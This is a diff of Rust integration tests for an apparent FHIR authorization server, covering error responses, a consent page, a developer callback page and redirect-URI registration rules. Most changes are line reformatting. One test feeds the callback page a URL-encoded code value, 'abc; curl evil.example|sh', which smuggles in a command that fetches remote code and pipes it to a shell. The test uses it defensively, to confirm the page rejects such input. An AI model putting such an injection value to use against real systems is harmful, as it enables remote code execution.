@@ -95,7 +95,10 @@ async fn an_unknown_page_is_page_not_found_and_an_unknown_fhir_path_an_operation
     assert_eq!(r.status(), StatusCode::NOT_FOUND);
     assert!(r.headers()[CONTENT_TYPE].to_str().unwrap().starts_with("application/fhir+json"));
     let body: Value = r.json().await.unwrap();
-    assert_eq!((body["resourceType"].as_str(), body["issue"][0]["code"].as_str()), (Some("OperationOutcome"), Some("not-found")));
+    assert_eq!(
+        (body["resourceType"].as_str(), body["issue"][0]["code"].as_str()),
+        (Some("OperationOutcome"), Some("not-found"))
+    );
     let client = s.public_app().await;
     let (code, verifier) = launch(&s, &client, "launch/patient patient/*.rs", "patient", None).await;
     let token = redeem(&s, &client, &code, &verifier).await;
@@ -159,7 +162,8 @@ async fn the_consent_page_speaks_to_a_patient_of_their_own_record() {
     desk_sign_in(&s, &mut portal, "/portal", "patient").await;
     portal.get(&format!("{}/portal", s.base)).await;
     let csrf = attr_after(&portal.page, "name=\"csrf\" value=\"").unwrap();
-    let launch = launch_of(&s, &launch_from(&s, &portal, "/portal/launch", &[("csrf", &csrf), ("client_id", &client)]).await);
+    let launch =
+        launch_of(&s, &launch_from(&s, &portal, "/portal/launch", &[("csrf", &csrf), ("client_id", &client)]).await);
     let mut params = s.authorize_params(&client, "launch openid fhirUser patient/*.rs", &random(32));
     params.push(("launch".into(), launch));
     portal.get(&s.authorize_url(&params)).await;
@@ -209,7 +213,7 @@ async fn the_dev_callback_page_shows_the_code_and_a_token_command_for_it() {
     assert!(b.url.starts_with(&format!("{}/dev/callback?code=", s.base)), "{}", b.url);
     let code = query_of(&b.url)["code"].clone();
     assert!(b.page.contains(&format!("<code id=\"code-line\">CODE={code}</code>")), "{}", b.page);
-    assert!(b.page.contains(&format!("-d code={code} ")), "the token command has the code filled in");
+    assert!(b.page.contains(&format!("-d code={code} \\\n")), "the token command has the code filled in");
     assert!(b.page.contains("&#34;$BASE/auth/token&#34;") && b.page.contains("&#34;$CLIENT_ID&#34;"));
     assert!(b.page.contains("&#34;$VERIFIER&#34;") && b.page.contains("&#34;$BASE/dev/callback&#34;"));
     assert!(b.page.contains("<code id=\"state\">state-0123456789abcdef</code>"));
@@ -248,8 +252,12 @@ async fn the_dev_callback_page_renders_only_its_query_escaped_and_is_never_cache
     let html = get("?code=abc%3B%20curl%20evil.example%7Csh").await.text().await.unwrap();
     assert!(!html.contains("CODE=") && !html.contains("code-line"), "{html}");
     // An error response.
-    let html = get("?error=access_denied&error_description=The+user+said+%3Cno%3E&state=s1").await.text().await.unwrap();
-    assert!(html.contains("<code id=\"error\">access_denied</code>") && html.contains("The user said &#60;no&#62;"), "{html}");
+    let html =
+        get("?error=access_denied&error_description=The+user+said+%3Cno%3E&state=s1").await.text().await.unwrap();
+    assert!(
+        html.contains("<code id=\"error\">access_denied</code>") && html.contains("The user said &#60;no&#62;"),
+        "{html}"
+    );
     assert!(!html.contains("CODE="));
     // Nothing: how to use it.
     let html = get("").await.text().await.unwrap();
@@ -285,8 +293,15 @@ async fn only_a_registrant_with_the_sandbox_powers_may_name_the_dev_callback_and
     for uri in ["/launcher", "/dev/callback?x=1", "/dev/callback/", "/auth/flow/x", "/"] {
         let other = json!({"client_name": "x", "redirect_uris": [format!("{}{uri}", s.base)], "token_endpoint_auth_method": "none"});
         let (status, err) = register_status(&s, &other, &[]).await;
-        assert_eq!((status, err["error"].as_str()), (StatusCode::BAD_REQUEST, Some("invalid_redirect_uri")), "{uri}: {err}");
-        assert!(err["error_description"].as_str().unwrap().contains("/dev/callback, the built-in callback page"), "{err}");
+        assert_eq!(
+            (status, err["error"].as_str()),
+            (StatusCode::BAD_REQUEST, Some("invalid_redirect_uri")),
+            "{uri}: {err}"
+        );
+        assert!(
+            err["error_description"].as_str().unwrap().contains("/dev/callback, the built-in callback page"),
+            "{err}"
+        );
     }
     let localhost = s.base.replace("127.0.0.1", "localhost");
     let other = json!({"client_name": "x", "redirect_uris": [format!("{localhost}/launcher")], "token_endpoint_auth_method": "none"});
@@ -301,7 +316,9 @@ async fn only_a_registrant_with_the_sandbox_powers_may_name_the_dev_callback_and
     assert!(err["error_description"].as_str().unwrap().contains("admin token"), "{err}");
     // …nor add it with its own registration access token (RFC 7592)…
     let reg = s
-        .register(json!({"client_name": "x", "redirect_uris": [s.redirect_uri()], "token_endpoint_auth_method": "none"}))
+        .register(
+            json!({"client_name": "x", "redirect_uris": [s.redirect_uri()], "token_endpoint_auth_method": "none"}),
+        )
         .await;
     let mut update = reg.clone();
     update["redirect_uris"] = json!([s.redirect_uri(), format!("{}/dev/callback", s.base)]);
